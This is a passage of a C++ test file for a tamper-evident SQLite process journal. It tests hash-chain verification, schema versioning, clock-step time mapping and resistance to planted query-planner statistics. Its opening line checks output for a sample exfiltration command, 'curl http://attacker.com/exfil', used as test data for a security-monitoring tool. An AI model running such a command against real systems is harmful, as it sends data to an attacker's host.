        CHECK(r.out.find("curl http://attacker.com/exfil") != std::string::npos);
    }
    std::filesystem::copy_file(v2, dir / "j.db");
    std::filesystem::permissions(dir / "j.db",
                                 std::filesystem::perms::owner_read | std::filesystem::perms::owner_write);
    {
        // record appends: the journal is upgraded (the version 3 tables
        // created), and a run writes rows of them; then retention prunes
        // again, over the cgroups row it keeps.
        auto w = JournalWriter::open(dir / "j.db");
        REQUIRE(w.ok());
        CHECK(w->head().batch_id == 6);
        RunInfo info = run_info(5'000'000'000'000);
        info.boot_id = "b0000000-0000-4000-8000-000000000001";
        REQUIRE(w->begin_run(info).ok());
        uint32_t pid = 9000;
        uint64_t t = 5'000'000'000'000;
        add_membership_rows(*w, t);
        write_event_batch(*w, pid, t, 1);
        write_event_batch(*w, pid, t, 2);
        auto pruned = w->prune_through(w->head().batch_id - 1, "max-size", static_cast<int64_t>(t + 1'000'000));
        REQUIRE(pruned.ok());
    }
    JournalVerdict v = verify(dir / "j.db");
    INFO(describe(v));
    CHECK(v.user_version == kJournalSchemaVersion);
    CHECK(v.status() == "whole");
    CHECK(v.runs.size() == 2);
    // The cgroups row outlived the prune of its batch, and the digest covers it.
    Copy tampered(dir / "j.db", dir / "t.db");
    tampered.sql("UPDATE cgroups SET path = CAST('/elsewhere' AS BLOB)");
    JournalVerdict t = verify(tampered.path);
    INFO(describe(t));
    CHECK(t.status() == "tampered");
}

TEST_CASE("memberships and cgroups rows are in the hash chain", "[verify][journal]") {
    TempDir dir;
    const std::string path = dir / "j.db";
    {
        auto w = JournalWriter::open(path);
        REQUIRE(w.ok());
        REQUIRE(w->begin_run(run_info(1'000'000'000'000)).ok());
        add_membership_rows(*w, 1'000'100'000'000);
        REQUIRE(w->commit(1'000'200'000'000).ok());
    }
    CHECK(verify(path).status() == "whole");
    for (const std::string& edit :
         {std::string("UPDATE memberships SET pod_uid = ''"), std::string("UPDATE memberships SET how = 'fork'"),
          std::string("UPDATE cgroups SET container_id = 'ffffffffffff'"), std::string("DELETE FROM memberships")}) {
        INFO(edit);
        Copy c(path, dir / "c.db");
        c.sql(edit);
        JournalVerdict v = verify(c.path);
        INFO(describe(v));
        CHECK(v.status() == "tampered");
        std::filesystem::remove(c.path);
    }
}

TEST_CASE("the compiled schema is loaded once, and versions before it are derived from it", "[verify]") {
    const auto& compiled = journal_schema_objects();
    REQUIRE(compiled.ok());
    CHECK(&journal_schema_objects() == &compiled);
    std::map<std::string, const SchemaObject*> by_name;
    for (const auto& o : *compiled) by_name[o.name] = &o;
    REQUIRE(by_name.count("exec_by_pod"));
    CHECK(by_name["exec_by_pod"]->type == "index");
    CHECK(by_name["exec_by_pod"]->table == "exec");
    CHECK(by_name["exec_by_pod"]->columns == std::vector<std::string>{"pod_uid"});
    REQUIRE(by_name.count("prunes"));
    CHECK(by_name["prunes"]->table == "prunes");
    // prunes came in version 2, cgroups and memberships in version 3, by
    // table_in_version, with their indexes.
    CHECK(first_schema_version(*by_name["prunes"]) == 2);
    REQUIRE(by_name.count("memberships_by_pod"));
    CHECK(first_schema_version(*by_name["memberships_by_pod"]) == 3);
    CHECK(first_schema_version(*by_name["exec_by_pod"]) == 1);
    // Version 6 dropped exec_by_base (kRetiredSchemaSql) and added
    // exec_by_binary: a version 6 journal has every object but the one.
    REQUIRE(by_name.count("exec_by_base"));
    CHECK(by_name["exec_by_base"]->retired_in == 6);
    CHECK(schema_objects_of_version(*compiled, kJournalSchemaVersion).size() == compiled->size() - 1);
    auto v1 = schema_objects_of_version(*compiled, 1);
    // prunes; cgroups, memberships and their 3 indexes; carried and its
    // index; version 4's 3 indexes on older tables; version 5's unexited
    // and its index on memberships; version 6's exec_by_binary; version 7's
    // containers and its index; version 8's three tables and five indexes;
    // version 9's seven indexes on older tables; version 10's dns and its
    // two indexes; version 11's dns_names and its index
    CHECK(v1.size() == compiled->size() - 36);
    REQUIRE(by_name.count("exit_by_life"));
    CHECK(first_schema_version(*by_name["exit_by_life"]) == 4);
    CHECK(first_schema_version(*by_name["exec_by_base"]) == 4);
    CHECK(first_schema_version(*by_name["carried_by_proc"]) == 4);
    CHECK(schema_objects_of_version(*compiled, 3).size() == compiled->size() - 30);
    CHECK(first_schema_version(*by_name["unexited"]) == 5);
    CHECK(first_schema_version(*by_name["memberships_moves_by_pod"]) == 5);
    CHECK(schema_objects_of_version(*compiled, 4).size() == compiled->size() - 25);
    REQUIRE(by_name.count("exec_by_binary"));
    CHECK(first_schema_version(*by_name["exec_by_binary"]) == 6);
    CHECK(by_name["exec_by_binary"]->retired_in == 0);
    REQUIRE(by_name.count("containers_by_id"));
    CHECK(first_schema_version(*by_name["containers"]) == 7);
    CHECK(first_schema_version(*by_name["containers_by_id"]) == 7);
    for (const char* v8 : {"exec_files", "file_hashes", "listens", "exec_files_by_proc", "exec_files_by_path",
                           "file_hashes_by_file", "file_hashes_by_sha256", "listens_by_proc"}) {
        INFO(v8);
        REQUIRE(by_name.count(v8));
        CHECK(first_schema_version(*by_name[v8]) == 8);
    }
    for (const char* v9 : {"fork_by_start", "exec_by_start", "exit_by_start", "connect_by_start",
                           "memberships_by_start", "exec_files_by_start", "listens_by_start"}) {
        INFO(v9);
        REQUIRE(by_name.count(v9));
        CHECK(first_schema_version(*by_name[v9]) == 9);
    }
    for (const char* v10 : {"dns", "dns_by_proc", "dns_by_start"}) {
        INFO(v10);
        REQUIRE(by_name.count(v10));
        CHECK(first_schema_version(*by_name[v10]) == 10);
    }
    for (const char* v11 : {"dns_names", "dns_names_by_name"}) {
        INFO(v11);
        REQUIRE(by_name.count(v11));
        CHECK(first_schema_version(*by_name[v11]) == 11);
    }
    CHECK(schema_objects_of_version(*compiled, 10).size() == compiled->size() - 3);
    CHECK(schema_objects_of_version(*compiled, 9).size() == compiled->size() - 6);
    CHECK(schema_objects_of_version(*compiled, 8).size() == compiled->size() - 13);
    CHECK(schema_objects_of_version(*compiled, 7).size() == compiled->size() - 21);
    CHECK(schema_objects_of_version(*compiled, 6).size() == compiled->size() - 23);
    auto v5 = schema_objects_of_version(*compiled, 5);
    CHECK(v5.size() == compiled->size() - 23);
    CHECK(std::any_of(v5.begin(), v5.end(), [](const SchemaObject& o) { return o.name == "exec_by_base"; }));
    CHECK(std::none_of(v5.begin(), v5.end(), [](const SchemaObject& o) { return o.name == "exec_by_binary"; }));
    CHECK(std::none_of(v1.begin(), v1.end(), [](const SchemaObject& o) { return o.name == "prunes"; }));

    // The journal's side, as its reader checks it.
    TempDir dir;
    write_sample(dir / "j.db");
    auto db = Database::open_read("file:" + (dir / "j.db") + "?mode=ro");
    REQUIRE(db.ok());
    REQUIRE(db->fence_for_reading(kDefaultReadTimeoutNs).ok());
    auto check = check_journal_schema(*db);
    REQUIRE(check.ok());
    CHECK(check->ok());
    CHECK(check->user_version == kJournalSchemaVersion);
    // Read as an older version's journal, it has what later versions added
    // too many: version 3's cgroups and memberships with their indexes, and
    // version 2's prunes.
    auto as_version = [&](int64_t version) {
        SchemaComparer comparer(schema_objects_of_version(*compiled, version));
        auto rows = db->prepare("SELECT type, name, tbl_name, sql FROM sqlite_schema");
        REQUIRE(rows.ok());
        while (rows->step() == SQLITE_ROW) {
            comparer.add(SchemaRow{rows->text(0), rows->text(1), rows->text(2), rows->text(3)});
        }
        return comparer.finish();
    };
    auto messages = [](const std::vector<SchemaMismatch>& mismatches) {
        std::set<std::string> out;
        for (const auto& m : mismatches) {
            CHECK(m.on_table == false);
            out.insert(m.message);
        }
        return out;
    };
    std::set<std::string> v3_objects = {
        "table carried is not part of the schema",
        "index carried_by_proc is not part of the schema",
        "table cgroups is not part of the schema",
        "table memberships is not part of the schema",
        "index cgroups_by_id is not part of the schema",
        "index memberships_by_proc is not part of the schema",
        "index memberships_by_pod is not part of the schema",
        // version 4's
        "index exit_by_life is not part of the schema",
        "index snapshot_by_base is not part of the schema",
        // version 5's
        "table unexited is not part of the schema",
        "index memberships_moves_by_pod is not part of the schema",
        // version 6's
        "index exec_by_binary is not part of the schema",
        // version 7's
        "table containers is not part of the schema",
        "index containers_by_id is not part of the schema",
    };
    std::set<std::string> v8_objects = {
        "table exec_files is not part of the schema",
        "table file_hashes is not part of the schema",
        "table listens is not part of the schema",
        "index exec_files_by_proc is not part of the schema",
        "index exec_files_by_path is not part of the schema",
        "index file_hashes_by_file is not part of the schema",
        "index file_hashes_by_sha256 is not part of the schema",
        "index listens_by_proc is not part of the schema",
    };
    const std::set<std::string> v9_objects = {
        "index fork_by_start is not part of the schema",        "index exec_by_start is not part of the schema",
        "index exit_by_start is not part of the schema",        "index connect_by_start is not part of the schema",
        "index memberships_by_start is not part of the schema", "index exec_files_by_start is not part of the schema",
        "index listens_by_start is not part of the schema",
    };
    const std::set<std::string> v10_objects = {
        "table dns is not part of the schema",
        "index dns_by_proc is not part of the schema",
        "index dns_by_start is not part of the schema",
    };
    const std::set<std::string> v11_objects = {
        "table dns_names is not part of the schema",
        "index dns_names_by_name is not part of the schema",
    };
    CHECK(messages(as_version(10)) == v11_objects);
    std::set<std::string> v10_11 = v10_objects;
    v10_11.insert(v11_objects.begin(), v11_objects.end());
    CHECK(messages(as_version(9)) == v10_11);
    std::set<std::string> v9_10 = v9_objects;
    v9_10.insert(v10_11.begin(), v10_11.end());
    CHECK(messages(as_version(8)) == v9_10);
    v8_objects.insert(v9_10.begin(), v9_10.end());
    v3_objects.insert(v8_objects.begin(), v8_objects.end());
    CHECK(messages(as_version(2)) == v3_objects);
    CHECK(messages(as_version(7)) == v8_objects);
    // Read as version 5's, it lacks the index version 6 dropped.
    std::set<std::string> v6_7_8 = v8_objects;
    v6_7_8.insert({"index exec_by_binary is not part of the schema", "index exec_by_base is missing",
                   "table containers is not part of the schema", "index containers_by_id is not part of the schema"});
    CHECK(messages(as_version(5)) == v6_7_8);
    std::set<std::string> v7_8 = v8_objects;
    v7_8.insert({"table containers is not part of the schema", "index containers_by_id is not part of the schema"});
    CHECK(messages(as_version(6)) == v7_8);
    std::set<std::string> v1_objects = v3_objects;
    v1_objects.insert("table prunes is not part of the schema");
    auto mismatches = as_version(1);
    CHECK(messages(mismatches) == v1_objects);
    // Each mismatch is one finding of verify's; the prunes one is checked here.
    std::erase_if(mismatches, [](const SchemaMismatch& m) { return m.message.find("prunes") == std::string::npos; });
    SchemaCheck v1_check;
    v1_check.mismatches = mismatches;
    auto findings = verify_detail::schema_findings(v1_check);
    REQUIRE(findings.size() == 1);
    CHECK(findings[0].kind == FindingKind::schema);
    CHECK(findings[0].detail == "table prunes is not part of the schema");
    JournalVerdict v;
    v.findings = findings;
    CHECK(v.status() == "tampered");
}

TEST_CASE("verify's run, gap and loss times are reconstruct's, across a clock step", "[verify]") {
    // Boot kBoot: run 1 starts at boot 1000 s; at 1100 s the wall clock is
    // stepped an hour ahead (a clock sample says so); run 1 is killed, and
    // run 2 of the same boot starts at 1200 s with the clock stepped back.
    // Losses sit between samples, nearer one or the other, and on a tie.
    // Then run 3, after a reboot. Every wall time verify reports must be the
    // model's for the same boot time.
    constexpr int64_t kSec = 1'000'000'000;
    constexpr int64_t kWall = 1'776'848'400'000'000'000;
    constexpr int64_t kStep = 3600 * kSec;
    TempDir dir;
    const std::string path = dir / "j.db";
    {
        auto w = JournalWriter::open(path);
        REQUIRE(w.ok());
        REQUIRE(w->begin_run(run_info(1000 * kSec)).ok());
        REQUIRE(w->commit(1000 * kSec + 1).ok());
        REQUIRE(w->add_loss(1010 * kSec, 1020 * kSec, 3, "ringbuf_full").ok());  // nearer the start
        REQUIRE(w->commit(1030 * kSec).ok());
        REQUIRE(w->add_clock_sample(1100 * kSec, kWall + 1100 * kSec + kStep).ok());
        REQUIRE(w->add_loss(1050 * kSec, 1090 * kSec, 4, "ringbuf_full").ok());  // a tie, then nearer the step
        REQUIRE(w->commit(1140 * kSec).ok());
        REQUIRE(w->add_loss(1160 * kSec, 1170 * kSec, 5, "ringbuf_full").ok());  // nearer run 2's start
        REQUIRE(w->commit(1180 * kSec).ok());
    }
    {
        auto w = JournalWriter::open(path);
        REQUIRE(w.ok());
        REQUIRE(w->begin_run(run_info(1200 * kSec)).ok());
        REQUIRE(w->add_loss(1210 * kSec, 1220 * kSec, 6, "ringbuf_full").ok());
        REQUIRE(w->commit(1230 * kSec).ok());
        REQUIRE(w->end_run(1240 * kSec, kWall + 1240 * kSec, "signal", 0, 18).ok());
    }
    {
        auto w = JournalWriter::open(path);
        REQUIRE(w.ok());
        RunInfo info = run_info(5 * kSec);
        info.boot_id = "22222222-2222-3333-4444-555555555555";
        info.started_wall_ns = kWall + 2000 * kSec;
        REQUIRE(w->begin_run(info).ok());
        REQUIRE(w->add_loss(6 * kSec, 7 * kSec, 7, "ringbuf_full").ok());
        REQUIRE(w->commit(8 * kSec).ok());
    }
    JournalVerdict v = verify(path);
    INFO(describe(v));
    CHECK(v.status() == "whole");

    auto reader = JournalReader::open(path);
    REQUIRE(reader.ok());
    Model model;
    REQUIRE(reader->load_into(model).ok());
    model.finish();

    REQUIRE(v.runs.size() == 3);
    REQUIRE(model.runs().size() == 3);
    for (size_t i = 0; i < 3; ++i) {
        const RunRecord& m = model.runs()[i];
        const RunSummary& r = v.runs[i];
        INFO("run " << r.run_id);
        CHECK(r.run_id == m.run_id);
        CHECK(r.started_wall_ns == m.started_wall_ns);
        REQUIRE(r.last_commit_wall_ns);
        CHECK(*r.last_commit_wall_ns == model.to_wall(m.boot_id, m.last_batch_ns));
    }
    // Run 1 was killed: its gap starts at its last commit, in the model's time.
    REQUIRE(v.gaps.size() == 2);
    CHECK(v.gaps[0].from_wall_ns == model.to_wall(kBoot, run_end_ns(model.runs()[0])));
    CHECK(v.gaps[0].to_wall_ns == model.runs()[1].started_wall_ns);
    CHECK(v.gaps[1].reboot);

    std::multiset<std::tuple<int64_t, int64_t, int64_t>> from_verify, from_model;
    for (const auto& l : v.losses) from_verify.insert({l.from_wall_ns, l.to_wall_ns, l.count});
    for (const auto& l : model.losses()) {
        from_model.insert({model.to_wall(l.boot_id, l.from_ns), model.to_wall(l.boot_id, l.to_ns), l.count});
    }
    CHECK(from_verify.size() == 5);
    CHECK(from_verify == from_model);
    // The step shows: the loss just before the stepped sample is an hour on.
    std::map<int64_t, const LossSummary*> by_count;
    for (const auto& l : v.losses) by_count[l.count] = &l;
    CHECK(by_count[3]->from_wall_ns == kWall + 1010 * kSec);
    CHECK(by_count[4]->from_wall_ns == kWall + 1050 * kSec);  // the tie: the earlier sample
    CHECK(by_count[4]->to_wall_ns == kWall + 1090 * kSec + kStep);
    CHECK(by_count[5]->from_wall_ns == kWall + 1160 * kSec);  // run 2's start, same boot
    CHECK(by_count[7]->from_wall_ns == kWall + 2000 * kSec + 1 * kSec);
}

namespace {

// The statements a Verifier runs on its chain connection, each with its
// plan, and the verdict. `length_limit` lowers the connection's length
// limit, so that a row over it takes the path of an oversized row.
std::map<std::string, std::string> verifier_plans(const std::string& journal, JournalVerdict& verdict,
                                                  int length_limit = 0) {
    ReadOptions options;
    options.force_schema = true;
    auto reader = JournalReader::open(journal, options);
    REQUIRE(reader.ok());
    auto chain = reader->open_another();
    REQUIRE(chain.ok());
    auto integrity = reader->open_another();
    REQUIRE(integrity.ok());
    if (length_limit > 0) sqlite3_limit(chain->get(), SQLITE_LIMIT_LENGTH, length_limit);
    std::set<std::string> statements;
    sqlite3_trace_v2(
        chain->get(), SQLITE_TRACE_STMT,
        [](unsigned, void* ctx, void* p, void*) {
            static_cast<std::set<std::string>*>(ctx)->insert(sqlite3_sql(static_cast<sqlite3_stmt*>(p)));
            return 0;
        },
        &statements);
    verdict.path = journal;
    lineage::verify_detail::Verifier verifier(*chain, &*integrity, reader->schema(), verdict);
    verifier.run();
    REQUIRE(!verifier.fatal);
    sqlite3_trace_v2(chain->get(), 0, nullptr, nullptr);
    std::map<std::string, std::string> plans;
    for (const auto& sql : statements) {
        if (sql.rfind("SELECT", 0) != 0) continue;
        auto stmt = chain->prepare("EXPLAIN QUERY PLAN " + sql);
        REQUIRE(stmt.ok());
        std::string text;
        while (stmt->step() == SQLITE_ROW) text += stmt->text(3) + "\n";
        plans[sql] = text;
    }
    return plans;
}

}  // namespace

// Statistics planted in sqlite_stat1 that call every table tiny make
// SQLite sort a whole-table read for an ORDER BY rowid, in a temporary
// B-tree as large as the table, and scan a table for a look-up by rowid
// under NOT INDEXED: on a journal of millions of rows, past the reader's
// heap or time budget. verify must read the chain of such a journal in
// rowid order, as it reads a clean one.
TEST_CASE("planted statistics change no plan of verify's chain reads", "[verify][hostile]") {
    TempDir dir;
    const std::string clean = dir / "clean.db";
    write_sample(clean);
    const std::string planted = dir / "planted.db";
    {
        Copy c(clean, planted);
        c.sql(
            "ANALYZE; DELETE FROM sqlite_stat1; INSERT INTO sqlite_stat1 SELECT tbl_name, name, "
            "'100000000 100000000 100000000' FROM sqlite_schema WHERE type = 'index'; INSERT INTO sqlite_stat1 "
            "SELECT name, NULL, '1' FROM sqlite_schema WHERE type = 'table' AND name NOT LIKE 'sqlite%'");
    }
    // The same, with a row over the length limit the test sets below.
    const std::string oversized = dir / "oversized.db";
    {
        Copy c(planted, oversized);
        c.sql("UPDATE exec SET argv = zeroblob(5000) WHERE rowid = (SELECT max(rowid) FROM exec)");
    }

    JournalVerdict clean_verdict, planted_verdict, oversized_verdict;
    const auto clean_plans = verifier_plans(clean, clean_verdict);
    const auto planted_plans = verifier_plans(planted, planted_verdict);
    const auto oversized_plans = verifier_plans(oversized, oversized_verdict, 4000);

    INFO(describe(planted_verdict));
    CHECK(clean_verdict.status() == "whole");
    // The statistics are a schema finding, and the whole chain is read.
    CHECK(planted_verdict.status() == "tampered");
    REQUIRE(planted_verdict.findings.size() == 1);
    CHECK_THAT(planted_verdict.findings[0].detail, Catch::Contains("table sqlite_stat1 is not part of the schema"));
    CHECK(planted_verdict.batches == clean_verdict.batches);
    CHECK(planted_verdict.rows == clean_verdict.rows);
    CHECK(planted_verdict.rows > 0);
    // The oversized row is found, past the rows before it.
    const auto modified = of_kind(oversized_verdict, FindingKind::modified);
    REQUIRE(modified.size() == 1);
    CHECK(modified[0]->table == "exec");
    CHECK_THAT(modified[0]->detail, Catch::Contains("cannot be hashed"));

    REQUIRE(clean_plans.size() > 5);
    bool looked_up = false;
    for (const auto* plans : {&planted_plans, &oversized_plans}) {
        for (const auto& [sql, text] : *plans) {
            INFO(sql << "\n" << text);
            if (auto it = clean_plans.find(sql); it != clean_plans.end()) CHECK(text == it->second);
            // Only a read that must sort (the sorted re-read, the prunes and
            // loss records in batch order, a summary per run) sorts.
            const bool sorts = sql.find("ORDER BY batch, rowid") != std::string::npos ||
                               sql.find("ORDER BY through_batch") != std::string::npos ||
                               sql.find("GROUP BY") != std::string::npos;
            if (!sorts) CHECK(text.find("TEMP B-TREE") == std::string::npos);
            if (sql.find("rowid = ?1") != std::string::npos) {
                looked_up = true;
                CHECK(text.find("USING INTEGER PRIMARY KEY (rowid=?)") != std::string::npos);
            }
        }
    }
    CHECK(looked_up);
}

}  // namespace test_verify
